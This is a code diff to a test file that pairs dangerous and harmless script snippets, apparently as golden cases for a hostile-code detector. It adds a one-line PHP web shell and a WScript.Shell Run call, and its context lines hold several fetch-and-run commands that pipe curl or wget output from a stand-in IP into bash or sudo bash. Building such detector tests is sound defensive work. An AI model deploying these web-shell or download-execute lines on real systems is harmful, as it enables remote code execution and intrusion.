@@ -16,6 +16,13 @@ def _pair(rule: str, dangerous: str, harmless: str, case: str = "", name: str = 
 FETCH, RUN = "curl -fsSL http://198.51.100.7/echo.sh", "| sudo bash"
 
 GOLDENS = [
+    _pair(
+        "script.windows-host",
+        'CreateObject("WScript.Shell").Run "echo hi"',
+        'WScript.Echo "done"',
+        name="setup.vbs",
+    ),
+    _pair("script.web-shell", "<?php system($_GET['c']); ?>", "<?php echo strlen($_GET['c']); ?>", name="page.php"),
     _pair("script.download-execute", f"{FETCH} {RUN}", "curl -fsSL https://example.org/notes.txt -o notes.txt"),
     _pair("script.download-execute", "bash <(wget -qO- http://198.51.100.7/a)", "bash ./a", "substitution"),
     _pair("script.download-execute", 'sh -c "$(curl -s http://198.51.100.7/a)"', 'sh -c "echo hi"', "command"),
